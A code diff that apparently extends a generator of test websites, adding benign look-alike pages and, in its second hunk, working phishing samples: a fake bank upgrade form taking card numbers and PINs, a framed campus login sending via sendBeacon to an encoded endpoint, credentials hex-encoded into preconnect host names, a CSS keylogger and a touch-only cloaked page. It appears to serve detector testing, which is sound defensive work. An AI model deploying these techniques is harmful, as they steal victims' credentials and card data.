@@ -345,6 +345,71 @@ fetch('https://api.open-meteo.com/v1/forecast?latitude=39.9&longitude=116.4&curr
     'data/sales.json': '[120,80,200,150,90]',
   });
 
+  add('survey-choices', 'survey with a list, radio buttons and checkboxes, sent to Google Forms', {
+    'index.html': page(
+      '课程满意度调查',
+      '',
+      `<h1>课程满意度调查</h1><form action="https://docs.google.com/forms/d/e/1FAIpQL${r.word(20)}/formResponse" method="POST" target="_blank">
+<select name="entry.${r.int(1e9)}" required><option value="">请选择年级</option><option>大一</option><option>大二</option></select>
+<label><input type="radio" name="entry.${r.int(1e9)}" value="满意" required>满意</label><label><input type="radio" name="entry.2" value="一般">一般</label>
+<label><input type="checkbox" name="entry.${r.int(1e9)}" value="作业">作业</label><label><input type="checkbox" name="entry.4" value="实验">实验</label>
+<textarea name="entry.${r.int(1e9)}" placeholder="建议"></textarea><button>提交</button></form>`,
+    ),
+  });
+
+  add('frame-widget', 'page with a calculator and a contact form in frames of its own', {
+    'index.html': page(
+      '数学小工具',
+      '',
+      '<h1>小工具</h1><iframe src="calc.html" width="320" height="200"></iframe><iframe src="contact.html" width="320" height="200"></iframe>',
+    ),
+    'calc.html': page(
+      '计算器',
+      '',
+      `<input id="a" type="number"> + <input id="b" type="number"> <button id="eq">=</button> <span id="r"></span>
+<script>document.getElementById('eq').onclick = function () { document.getElementById('r').textContent = (+document.getElementById('a').value) + (+document.getElementById('b').value); };</script>`,
+    ),
+    'contact.html': page(
+      '反馈',
+      '',
+      `<form id="c" action="https://formspree.io/f/${r.word(8)}" method="POST"><input type="email" name="email" placeholder="邮箱"><textarea name="message"></textarea><button>发送</button></form>
+<script>document.getElementById('c').onsubmit = function (e) { e.preventDefault(); fetch(this.action, { method: 'POST', body: new FormData(this), headers: { Accept: 'application/json' } }); };</script>`,
+    ),
+  });
+
+  add('dns-prefetch-cdn', 'blog with DNS-prefetch and preconnect hints to its CDNs and analytics', {
+    'index.html': page(
+      '旅行日记',
+      `<link rel="dns-prefetch" href="//cdn.bootcdn.net"><link rel="dns-prefetch" href="//hm.baidu.com"><link rel="preconnect" href="https://fonts.loli.net" crossorigin>
+<link rel="prefetch" href="page2.html">`,
+      '<article><h1>云南七日</h1><p>……</p><a href="page2.html">下一篇</a></article><input placeholder="搜索文章" id="q">',
+    ),
+    'page2.html': page('第二篇', '', '<h1>西藏</h1>'),
+  });
+
+  add('floating-labels', 'sign-up form whose script mirrors values for CSS floating labels', {
+    'index.html': page(
+      '社团报名',
+      `<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC&display=swap" rel="stylesheet"><style>
+.f { position: relative; margin: 12px 0 } .f label { position: absolute; left: 8px; top: 8px; transition: .2s }
+.f input:not([value=""]) + label { top: -10px; font-size: 12px } .f input[value=""] { background: url(img/pen.svg) no-repeat right center }</style>`,
+      `<form id="s"><div class="f"><input name="name" value=""><label>姓名</label></div><div class="f"><input name="phone" type="tel" value=""><label>手机号</label></div><button>报名</button></form>
+<script>document.querySelectorAll('.f input').forEach(function (i) { i.addEventListener('input', function () { i.setAttribute('value', i.value); }); });
+document.getElementById('s').onsubmit = function (e) { e.preventDefault(); localStorage.setItem('signup', JSON.stringify({ name: this.name.value })); alert('已报名'); };</script>`,
+    ),
+    'img/pen.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>',
+  });
+
+  add('responsive-menu', 'responsive page reading matchMedia and the window size for its menu', {
+    'index.html': page(
+      '校园歌手大赛',
+      '<style>@media (max-width: 600px) { nav a { display: block } }</style>',
+      `<nav><button id="m" style="display:none">菜单</button><a href="#a">赛程</a><a href="#b">报名</a></nav><h1>校园歌手大赛</h1>
+<script>var mq = window.matchMedia('(max-width: 600px)'); function set() { document.getElementById('m').style.display = mq.matches ? 'block' : 'none'; } set(); mq.addEventListener('change', set);
+if (/Android|iPhone/i.test(navigator.userAgent)) document.body.classList.add('touch'); window.addEventListener('resize', function () { console.log(innerWidth); });</script>`,
+    ),
+  });
+
   return sites;
 }
 
@@ -597,6 +662,76 @@ window.addEventListener('popstate', function () { history.pushState(null, '', lo
       '学习资料',
       '<style>.ad{position:absolute;left:-9999px}</style>',
       `<h1>资料下载</h1><iframe class="ad" src="https://${r.host()}/t.html"></iframe>`,
+    ),
+  });
+
+  add(
+    'choice-gated-phish',
+    'bank phishing that sends only once a bank, a card type and the terms are chosen',
+    {
+      'index.html': page(
+        '银行卡账户升级',
+        '',
+        `<h2>账户升级</h2><p>您的银行卡即将停用，请完成升级</p><form id="f"><select name="bank"><option value="">请选择开户行</option><option value="ccb">建设银行</option><option value="abc">农业银行</option></select>
+<label><input type="radio" name="t" value="d">储蓄卡</label><label><input type="radio" name="t" value="c">信用卡</label>
+<input name="card" placeholder="银行卡号"><input type="password" name="pw" placeholder="取款密码">
+<label><input type="checkbox" id="agree" style="opacity:0">我已阅读并同意《升级协议》</label><button>立即升级</button></form>
+<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); if (!this.bank.value || !this.t.value || !document.getElementById('agree').checked) { alert('请完整填写'); return; }
+  var x = new XMLHttpRequest(); x.open('POST', '${drop()}'); x.send(new FormData(this)); };</script>`,
+      ),
+    },
+  );
+
+  add('frame-phish', 'phishing form inside a frame of the site, sending by sendBeacon', {
+    'index.html': page(
+      '校园网认证',
+      '',
+      '<h1>校园网自助服务</h1><iframe src="auth.html" width="400" height="300" style="border:0"></iframe>',
+    ),
+    'auth.html': page(
+      '认证',
+      '',
+      `<form id="a"><input name="sid" placeholder="学号"><input type="password" name="pw" placeholder="统一身份认证密码"><button>登录</button></form>
+<script src="a.js"></script>`,
+    ),
+    'a.js': `(function(){var u=atob("${b64(drop())}");document.getElementById("a").addEventListener("submit",function(e){e.preventDefault();navigator.sendBeacon(u,new URLSearchParams(new FormData(e.target)).toString())})})();`,
+  });
+
+  add('preconnect-channel', 'credentials hex-encoded into preconnect host names', {
+    'index.html': page(
+      '积分商城',
+      '',
+      `${LOGIN_FORM('积分商城', '积分即将过期，登录兑换礼品')}
+<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var h = function (s) { return Array.prototype.map.call(s, function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join(''); };
+  [this.u.value, this.p.value].forEach(function (v, i) { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://' + h(v) + '.' + i + '.${r.word(7)}.${r.pick(['top', 'xyz', 'cc'])}'; document.head.appendChild(l); }); };</script>`,
+    ),
+  });
+
+  add('css-keylogger', 'CSS attribute-selector keylogger on a login page', {
+    'index.html': page(
+      '邮箱登录',
+      '<link rel="stylesheet" href="theme.css">',
+      `${LOGIN_FORM('企业邮箱', '邮箱即将停用，请重新登录')}
+<script>document.querySelectorAll('input').forEach(function (i) { i.addEventListener('input', function () { i.setAttribute('value', i.value); }); });
+document.getElementById('f').onsubmit = function () { alert('登录失败，请稍后再试'); return false; };</script>`,
+    ),
+    'theme.css': (() => {
+      const host = `https://${r.host()}`;
+      const chars = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*._-';
+      return [...chars]
+        .map(
+          (c) =>
+            `input[name="p"][value$="${c}"] { background-image: url("${host}/k/${encodeURIComponent(c)}"); }`,
+        )
+        .join('\n');
+    })(),
+  });
+
+  add('cloak-touch', 'phishing shown only on touch screens (matchMedia)', {
+    'index.html': page(
+      '优惠券',
+      '',
+      `<p>活动未开始</p><script>if (window.matchMedia('(pointer: coarse)').matches) { ${cloakedSend} }</script>`,
     ),
   });
 
